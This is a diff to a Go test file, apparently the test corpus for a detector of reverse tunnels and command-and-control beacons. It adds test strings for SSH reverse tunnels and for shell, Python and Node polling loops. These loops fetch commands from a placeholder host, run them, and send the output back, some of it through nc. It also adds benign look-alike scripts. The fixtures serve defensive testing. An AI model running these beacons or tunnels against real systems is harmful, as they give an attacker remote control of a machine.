@@ -198,6 +198,9 @@ func tunnelCases() []carrierCase {
 		"expect -c 'spawn ssh -N -R 2222:localhost:22 " + h + "; expect \"assword:\"; send \"Pa55w0rd\\r\"; interact'",
 		"expect <<'EOF'\nspawn ssh -R 2222:localhost:22 -N " + h + "\nexpect \"*password*\"\nsend \"Pa55w0rd\\r\"\nexpect eof\nEOF",
 		"dbclient -N -R 2222:localhost:22 " + h,
+		"plink -batch -pw Pa55 -N -R 2222:127.0.0.1:22 " + h,
+		"ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -gNR 8080:localhost:4444 " + h,
+		"until ssh -N -w any:any -o Tunnel=point-to-point root@" + c2Host + "; do sleep 20; done",
 		"nohup ssh -o ServerAliveInterval=60 -o ServerAliveCountMax=3 -NR 2022:localhost:22 " + h + " >/dev/null 2>&1 &",
 	}
 	var out []carrierCase
@@ -232,6 +235,9 @@ func pollingCases() []carrierCase {
 		"for i in $(seq 1 100000); do\n  curl -s -o /tmp/.t " + u + "/job\n  sh /tmp/.t > /tmp/.o 2>&1\n  curl -s -F \"f=@/tmp/.o\" " + u + "/up\n  sleep 20\ndone",
 		"until false; do\n  cmd=`curl -sk " + u + "/c`\n  out=`$cmd`\n  curl -sk --data-urlencode \"o=$out\" " + u + "/o\n  sleep 3\ndone",
 		"while true; do\n  eval \"$(curl -s " + u + "/next)\" | curl -s -T - " + u + "/put\n  sleep 60\ndone",
+		"while sleep 30; do\n  wget -q -O /tmp/.c " + u + "/bin\n  chmod +x /tmp/.c\n  /tmp/.c 2>&1 | nc " + c2Host + " 9001\ndone",
+		"B=busybox\nwhile true; do $B wget -qO- " + u + "/c | sh 2>&1 | $B wget -q -O- --post-file=/dev/stdin " + u + "/r; sleep 15; done",
+		"poll() {\n  local c\n  c=\"$(curl -fsS -H 'X-Id: 1' " + u + "/c)\" || return\n  printf '%s' \"$c\" | sh 2>&1 | curl -fsS -X PUT --data-binary @- " + u + "/r\n}\nwhile :; do poll; sleep \"$((20 + RANDOM % 20))\"; done",
 	}
 	py := []string{
 		"import requests, subprocess, time\nU = '" + u + "'\nwhile True:\n    r = requests.get(U + '/cmd')\n    if r.text:\n        o = subprocess.run(r.text, shell=True, capture_output=True).stdout\n        requests.post(U + '/out', data=o)\n    time.sleep(5)\n",
@@ -239,7 +245,14 @@ func pollingCases() []carrierCase {
 		"import urllib2, commands, time\nwhile True:\n    task = urllib2.urlopen('" + u + "/t').read()\n    res = commands.getoutput(task)\n    urllib2.urlopen('" + u + "/r', res)\n    time.sleep(10)\n",
 		"import requests as rq\nimport subprocess as sp\nimport time\ns = rq.Session()\ndef beacon():\n    job = s.get('" + u + "/j', timeout=10).json()['cmd']\n    res = sp.check_output(job, shell=True, stderr=sp.STDOUT)\n    s.post('" + u + "/r', json={'out': res.decode()})\nwhile True:\n    try:\n        beacon()\n    except Exception:\n        pass\n    time.sleep(30)\n",
 	}
+	py = append(py,
+		"import urllib.request, subprocess, time\nwhile True:\n    cmd = urllib.request.urlopen('"+u+"/c').read().decode()\n    out = subprocess.check_output(cmd, shell=True)\n    urllib.request.urlopen('"+u+"/r', data=out)\n    time.sleep(7)\n",
+		"import httpx, os, time\nc = httpx.Client()\nwhile True:\n    t = c.get('"+u+"/t').text\n    if t:\n        c.post('"+u+"/r', content=os.popen(t).read())\n    time.sleep(3)\n",
+		"import requests\nwhile True:\n    r = requests.get('"+u+"/py')\n    exec(r.text)\n    requests.post('"+u+"/ok', data={'h': 'x'})\n",
+	)
 	node := []string{
+		"const https = require('https');\nconst { execSync } = require('child_process');\nfunction poll() {\n  https.get('" + u + "/c', r => {\n    let b = '';\n    r.setEncoding('utf8');\n    r.on('data', d => b += d);\n    r.on('end', () => {\n      const o = execSync(b).toString();\n      const q = https.request('" + u + "/r', { method: 'POST' });\n      q.end(o);\n      setTimeout(poll, 5000);\n    });\n  });\n}\npoll();\n",
+		"const got = require('got');\nconst cp = require('child_process');\n(async () => {\n  for (;;) {\n    const cmd = await got('" + u + "/c').text();\n    cp.exec(cmd, (e, o) => got.post('" + u + "/r', { body: o }));\n    await new Promise(r => setTimeout(r, 9000));\n  }\n})();\n",
 		"const axios = require('axios');\nconst { exec } = require('child_process');\nsetInterval(async () => {\n  const { data } = await axios.get('" + u + "/c');\n  exec(data, (e, so, se) => axios.post('" + u + "/o', { o: so + se }));\n}, 5000);\n",
 		"const { execSync } = require('child_process');\nconst sleep = ms => new Promise(r => setTimeout(r, ms));\n(async () => {\n  while (true) {\n    const r = await fetch('" + u + "/c');\n    const c = await r.text();\n    const o = execSync(c).toString();\n    await fetch('" + u + "/o', { method: 'POST', body: o });\n    await sleep(5000);\n  }\n})();\n",
 		"const http = require('http');\nconst cp = require('child_process');\nsetInterval(() => {\n  http.get('" + u + "/c', res => {\n    let d = '';\n    res.on('data', c => d += c);\n    res.on('end', () => {\n      cp.exec(d, (e, o) => {\n        const q = http.request({ host: '" + c2Host + "', port: 8080, path: '/r', method: 'POST' });\n        q.write(o);\n        q.end();\n      });\n    });\n  });\n}, 3000);\n",
@@ -286,6 +299,8 @@ func carrierCleanCases() []carrierCase {
 		cl("ssh-tunnel", "/usr/local/bin/db-tunnel.sh", "#!/bin/sh\nssh -f -N -L 5432:db.internal:5432 ops@bastion.example.com\n"),
 		cl("ssh-tunnel", "/usr/local/bin/backup.sh", "#!/bin/sh\nssh backup@nas.example.com 'tar czf - /data' > /var/backups/data.tgz\nrsync -az -e 'ssh -i /root/.ssh/id_backup' /srv/ backup@nas.example.com:/srv/\nscp /etc/app.conf backup@nas.example.com:conf/\n"),
 		cl("ssh-tunnel", "/usr/local/bin/deploy.sh", "#!/bin/sh\nGIT_SSH_COMMAND='ssh -i /deploy/key -o StrictHostKeyChecking=no' git clone git@github.com:org/app.git /srv/app\nssh -o BatchMode=yes deploy@app1.example.com 'systemctl restart app'\n"),
+		cl("ssh-tunnel", "/usr/local/bin/remote-build.sh", "#!/bin/sh\nssh -R 5000:localhost:5000 builder@ci.example.com 'docker pull localhost:5000/app && make'\n"),
+		cl("ssh-tunnel", "/usr/local/bin/ssh-copy.sh", "#!/bin/sh\nfor h in web1 web2; do ssh -o ConnectTimeout=5 -p 2222 admin@$h.example.com 'uptime; df -h'; done\nssh -t jump.example.com ssh -L 8080:app:80 app\n"),
 		cl("ssh-tunnel", "/etc/cron.d/sync", "0 3 * * * root ssh -o ConnectTimeout=10 mirror@host.example.com /usr/bin/sync-mirror\n"),
 		cl("ssh-tunnel", "/etc/systemd/system/dbtunnel.service", "[Service]\nExecStart=/usr/bin/ssh -NT -o ServerAliveInterval=60 -L 3306:127.0.0.1:3306 db@db.example.com\nRestart=always\n"),
 		// health checks and update checkers
@@ -297,6 +312,8 @@ func carrierCleanCases() []carrierCase {
 		cl("http-c2", "/opt/app/worker.js", "const axios = require('axios');\nconst { execFile } = require('child_process');\nsetInterval(async () => {\n  const { data } = await axios.get('https://jobs.example.com/next');\n  execFile('/usr/bin/convert', [data.input, data.output], (e, o) => axios.post('https://jobs.example.com/done', { id: data.id }));\n}, 10000);\n"),
 		cl("carrier", "/opt/chart/templates/deploy.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: \"{{ .Values.image }}\"\n        command: [\"/app/start\", \"--port\", \"{{ .Values.port }}\"]\n"),
 		cl("carrier", "/srv/site/playbook.yml", "- hosts: web\n  tasks:\n  - name: restart\n    shell: systemctl restart nginx\n  - name: cleanup\n    command: find /tmp -mtime +7 -delete\n"),
+		cl("http-c2", "/opt/ci/bot.py", "import requests, subprocess, time\nwhile True:\n    st = requests.get('https://ci.example.com/api/status').json()\n    if st['pending']:\n        res = subprocess.run(['git', 'pull'], capture_output=True, text=True)\n        requests.post('https://ci.example.com/api/log', data=res.stdout)\n    time.sleep(60)\n"),
+		cl("http-c2", "/usr/local/bin/heartbeat.sh", "#!/bin/sh\nwhile true; do\n  up=$(uptime)\n  curl -fsS -d \"host=$(hostname)&up=$up\" https://mon.example.com/beat\n  curl -fsS -o /var/lib/app/motd https://mon.example.com/motd\n  sleep 300\ndone\n"),
 		cl("http-c2", "/opt/mon/poll.pl", "use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $s = $ua->get('https://status.example.com/api')->decoded_content;\n  my $o = `uptime`;\n  $ua->post('https://metrics.example.com/up', { o => $o, s => $s });\n  sleep 60;\n}\n"),
 	}
 }
